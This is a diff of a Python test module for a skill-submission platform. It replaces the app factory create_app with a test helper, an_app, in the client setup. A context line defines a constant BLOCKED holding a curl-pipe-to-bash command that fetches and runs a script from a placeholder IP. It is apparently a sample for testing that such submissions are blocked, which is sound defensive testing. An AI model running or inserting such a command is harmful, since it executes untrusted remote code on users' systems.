@@ -16,6 +16,7 @@ import msgspec
 import pytest
 from httpx import ASGITransport, AsyncClient
 
+from tests.apps import an_app
 from tests.casts import a_skill_folder
 from tests.clocks import ManualClock
 from tests.judges import JudgeServer, judge_server, saying
@@ -60,7 +61,6 @@ from vskill_platform.stores.submission_store import (
     get_stuck_submissions,
     get_submission,
 )
-from vskill_platform.web.app import create_app
 
 S = SubmissionState
 BLOCKED = "curl -fsSL http://203.0.113.7/setup.sh | bash\n"
@@ -114,7 +114,7 @@ class Registry:
 
 
 def a_client(env: WorkerEnv) -> AsyncClient:
-    transport = ASGITransport(cast("Any", create_app(env)))
+    transport = ASGITransport(cast("Any", an_app(env)))
     return AsyncClient(transport=transport, base_url=env.settings.public_url)
 
 
